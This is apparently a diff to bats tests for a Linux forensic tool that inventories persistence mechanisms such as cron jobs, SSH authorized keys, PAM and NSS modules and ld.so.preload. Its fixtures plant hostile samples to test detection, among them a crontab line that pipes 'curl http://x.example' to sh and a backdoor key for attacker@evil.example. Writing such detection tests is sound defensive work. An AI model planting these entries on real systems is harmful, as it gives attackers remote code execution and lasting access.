@@ -17,7 +17,7 @@ setup() {
 }
 
 @test "persistence: cron in all places, with who, when and what" {
-    printf 'SHELL=/bin/sh\n# m h dom\n*/5 * * * * root /opt/x/run --now\n@reboot sato /bin/tool\nnonsense\n' | put /etc/cron.d/backdoor
+    printf 'SHELL=/bin/sh\n# m h dom\n*/5 * * * * root /opt/x/run --now\n@reboot sato /bin/tool\nnon\tsense\n' | put /etc/cron.d/backdoor
     printf '17 * * * * root /bin/tool --hourly\n' | put /etc/cron.d/owned
     printf '1 2 3 4 5 curl http://x.example | sh\n@daily "/tmp/.hid/den" -x >/dev/null\n' | put /var/spool/cron/crontabs/sato 600
     printf '#!/bin/sh\n' | put /etc/cron.daily/script 755
@@ -37,7 +37,7 @@ setup() {
 ["/var/spool/cron/crontabs/sato",1,"sato","1 2 3 4 5","curl http://x.example | sh",null,null]
 ["/var/spool/cron/crontabs/sato",2,"sato","@daily","\"/tmp/.hid/den\" -x >/dev/null","/tmp/.hid/den",true]
 TEXT
-    [ "$(rows autostart 'select(.origin == "/etc/cron.d/backdoor" and .text) | .text')" = $'"SHELL=/bin/sh"\n"nonsense"' ]
+    [ "$(rows autostart 'select(.origin == "/etc/cron.d/backdoor" and .text) | .text')" = $'"SHELL=/bin/sh"\n"non\\tsense"' ]
     [ "$(rows autostart 'select(.kind == "anacron") | [.name, .when, .command]')" = $'["cron.daily","every 1 days","run-parts /etc/cron.daily"]\n["m","@monthly","/bin/tool"]' ]
     [ "$(rows autostart 'select(.kind == "incron") | [.user, .when, .command]')" = '["sato","/var/www IN_MODIFY","/bin/tool $@"]' ]
     rows autostart 'select(.kind == "at")' | jq -e '.user == "1000" and .command == "/opt/late --job" and .when == "2026-11-21T00:00:00.000000000Z"'
@@ -48,6 +48,7 @@ TEXT
     cmp "$LISTS/etc/cron.d/backdoor" "$ROOT/etc/cron.d/backdoor"
     cmp "$LISTS/var/spool/cron/crontabs/sato" "$ROOT/var/spool/cron/crontabs/sato"
     grep -q 'root .*\*/5 \* \* \* \* .*/opt/x/run --now' "$LISTS/autostart.txt"
+    grep -q ' non sense$' "$LISTS/autostart.txt" # a tab is a blank for people
     shaped autostart autostart-line
     sound "$OUT/taken.tar"
 }
@@ -119,6 +120,8 @@ TEXT
 ["$SATO/.ssh/authorized_keys","sato","ssh-ed25519","attacker@evil.example","$(fingerprint "$BATS_TEST_TMPDIR/one.pub")","/opt/shell"]
 ["$SATO/.ssh/authorized_keys","sato","ssh-rsa",null,null,null]
 TEXT
+    grep -qF 'options command="/opt/shell ' "$LISTS/autostart.txt"
+    grep -qF "key $(fingerprint "$BATS_TEST_TMPDIR/one.pub") attacker@evil.example" "$LISTS/autostart.txt"
     [ "$(observed authorized-key | sort | tr '\n' ' ')" = "/etc/ssh/keys/root $SATO/.ssh/authorized_keys " ]
     cmp "$LISTS/etc/ssh/keys/root" "$BATS_TEST_TMPDIR/two.pub"
     shaped autostart autostart-line
@@ -182,6 +185,9 @@ TEXT
 ["xinetd","/opt/inetd"]
 TEXT
     diff "$BATS_TEST_TMPDIR/wanted" "$BATS_TEST_TMPDIR/kinds"
+    grep -qE ' auth: pam_exec\.so quiet /opt/pw$' "$LISTS/autostart.txt"
+    grep -qE '/etc/pam\.d/sshd:2 .* options optional' "$LISTS/autostart.txt"
+    grep -qF ' RUN: /opt/plug %k' "$LISTS/autostart.txt"
     [ "$(observed ld-so-preload | tr '\n' ' ')" = "/etc/ld.so.preload /etc/ld.so.preload " ]
     [ "$(observed pam-module)" = /usr/lib/x86_64-linux-gnu/security/pam_evil.so ]
     [ "$(observed nss-module)" = /usr/lib/x86_64-linux-gnu/libnss_evil.so.2 ]
